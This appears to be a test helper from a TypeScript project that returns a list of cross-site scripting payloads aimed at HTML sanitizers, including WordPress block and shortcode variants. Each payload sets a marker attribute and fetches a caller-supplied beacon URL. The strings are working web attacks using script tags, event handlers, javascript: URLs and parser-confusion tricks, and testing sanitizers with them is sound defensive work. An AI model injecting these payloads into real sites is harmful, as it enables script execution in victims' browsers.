/** Ways to run a script, each of which would mark the document and call the receiver. */
export function attacks(beacon: string): string[] {
  const run = `document.documentElement.setAttribute('data-ran','1');fetch('${beacon}')`;
  return [
    `<script>${run}</script>`,
    `</p></div><script src="${beacon}"></script>`,
    `<img src=x onerror="${run}">`,
    `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s>`,
    `"><body onload="${run}"><iframe srcdoc="<script>parent.${run}</script>">`,
    `<iframe src="javascript:parent.${run}"></iframe><object data="${beacon}"></object>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
    `<meta http-equiv=refresh content="0;url=${beacon}"><link rel=stylesheet href="${beacon}">`,
    `<!-- /wp:paragraph --><!-- wp:html --><script>${run}</script><!-- /wp:html -->`,
    `<!--><script>${run}</script>--><![CDATA[<script>${run}</script>]]>`,
    `[audio src="${beacon}"][embed]${beacon}[/embed][caption]<script>${run}</script>[/caption]`,
    beacon,
    `&lt;script&gt;${run}&lt;/script&gt; &#60;script&#62;${run}&#60;/script&#62;`,
    `<a href="javascript:${run}" autofocus onfocus="${run}" tabindex=1>x</a><input autofocus onfocus="${run}">`,
    `<details open ontoggle="${run}"><video><source onerror="${run}"></video></details>`,
    `<style>@import '${beacon}';*{background:url(${beacon})}</style>`,
    `\u2028</title></textarea></style></script><script>${run}</script>`,
  ];
}
